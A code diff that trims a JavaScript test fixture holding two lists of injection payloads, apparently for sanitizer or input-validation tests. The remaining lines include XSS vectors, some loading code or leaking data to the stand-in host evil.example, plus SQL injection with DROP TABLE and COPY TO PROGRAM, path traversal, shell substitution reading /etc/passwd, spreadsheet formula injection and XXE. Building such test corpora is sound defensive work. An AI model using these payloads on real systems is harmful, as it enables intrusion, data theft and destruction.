@@ -5,81 +5,52 @@ const scripts = String.raw`
 <ScRiPt>alert(1)</sCrIpT>
 <script src=//evil.example/x.js></script>
 <script>alert(1)//
-<script>alert(1)<!--
 <<script>alert(1);//<</script>
 </script><script>alert(1)</script>
 </title><script>alert(1)</script>
 </textarea><script>alert(1)</script>
-</style><script>alert(1)</script>
-</select></form><script>alert(1)</script>
 --><script>alert(1)</script>
 ]]><script>alert(1)</script>
 "><script>alert(1)</script>
-'><script>alert(1)</script>
 \"><script>alert(1)</script>
 <scr<script>ipt>alert(1)</scr</script>ipt>
 <script type="module">import('//evil.example')</script>
 <script type="speculationrules">{"prefetch":[{"urls":["//evil.example"]}]}</script>
 <img src=x onerror=alert(1)>
-<img src=x onerror="alert(1)"//
-<img src="x" onerror='alert(1)'>
 <img/src/onerror=alert(1)>
-<img src=x:alert(1) onerror=eval(src)>
 <IMG SRC=JaVaScRiPt:alert(1)>
 <img src="jav&#x09;ascript:alert(1);">
-<img dynsrc="javascript:alert(1)">
 <svg onload=alert(1)>
 <svg/onload=alert(1)>
-<svg><script>alert(1)</script></svg>
 <svg><animate onbegin=alert(1) attributeName=x dur=1s>
 <svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">go</text></a></svg>
-<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>
 <svg><use href="data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x">
-<math><mi//xlink:href="data:x,<script>alert(1)</script>">
 <math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
 <iframe src="javascript:alert(1)"></iframe>
 <iframe srcdoc="<script>alert(1)</script>"></iframe>
-<embed src="javascript:alert(1)">
-<object data="javascript:alert(1)">
 <object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
 <base href="//evil.example/">
 <link rel=stylesheet href="//evil.example/x.css">
-<link rel=import href="data:text/html,<script>alert(1)</script>">
 <meta http-equiv="refresh" content="0;url=javascript:alert(1)">
 <meta http-equiv="Content-Security-Policy" content="script-src *">
 <body onload=alert(1)>
-<body background="javascript:alert(1)">
 <input autofocus onfocus=alert(1)>
-<select autofocus onfocus=alert(1)>
-<textarea autofocus onfocus=alert(1)>
 <video><source onerror="alert(1)">
-<audio src=x onerror=alert(1)>
 <details open ontoggle=alert(1)>
-<marquee onstart=alert(1)>
-<dialog open onclose=alert(1)>
 <div popover id=x onbeforetoggle=alert(1)></div><button popovertarget=x>x</button>
 <div style="background:url(javascript:alert(1))">
-<div style="width:expression(alert(1))">
 <style>@import'//evil.example/x.css';</style>
 <style>*{background:url('//evil.example/?leak')}</style>
 <form action="//evil.example"><input type=submit></form>
 <button formaction="javascript:alert(1)">x</button>
-<isindex action="javascript:alert(1)" type=image>
 <a href="javascript:alert(1)">x</a>
-<a href="data:text/html,<script>alert(1)</script>">x</a>
-<a href=" javascript:alert(1)">x</a>
 <template><script>alert(1)</script></template>
 <noscript><p title="</noscript><img src=x onerror=alert(1)>">
-<xmp><script>alert(1)</script></xmp>
-<plaintext><script>alert(1)</script>
 <astro-island component-url="//evil.example/x.js"></astro-island>
 javascript:alert(1)
-data:text/html,<script>alert(1)</script>
 " onmouseover="alert(1)
-' onfocus='alert(1)' autofocus='
 " autofocus onfocus=alert(1) x="
 &lt;script&gt;alert(1)&lt;/script&gt;
-&#60;script&#62;alert(1)&#60;/script&#62;
 %3Cscript%3Ealert(1)%3C/script%3E
 \u003cscript\u003ealert(1)\u003c/script\u003e
 ${'$'}{alert(1)}
@@ -89,7 +60,6 @@ ${'$'}{alert(1)}
 {%25 raw %25}
 {"__proto__":{"polluted":true}}
 __proto__
-constructor.prototype
 [object Object]
 undefined
 `;
@@ -97,29 +67,22 @@ undefined
 const queries = String.raw`
 ' OR '1'='1
 ' OR 1=1 --
-" OR ""="
 '; DROP TABLE enquiries; --
-'); DROP TABLE outbox; --
 ' UNION SELECT ciphertext, key_id FROM enquiries --
 1; ATTACH DATABASE '/etc/passwd' AS x; --
 '; COPY enquiries TO PROGRAM 'id'; --
 ' || pg_sleep(10) --
-1' AND SLEEP(5) AND '1'='1
 admin'--
 %' AND 1=0 UNION ALL SELECT 1 --
 $1
-?1
 :name
 \'; DELETE FROM rate_limits; --
 ../../../../etc/passwd
-..%2f..%2fetc%2fpasswd
 file:///etc/passwd
 | cat /etc/passwd
 $(cat /etc/passwd)
 =cmd|' /C calc'!A0
 =HYPERLINK("//evil.example","x")
-+1+1
-@SUM(1,1)
 %s%s%s%n
 (&(objectClass=*)(uid=*))
 <!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>
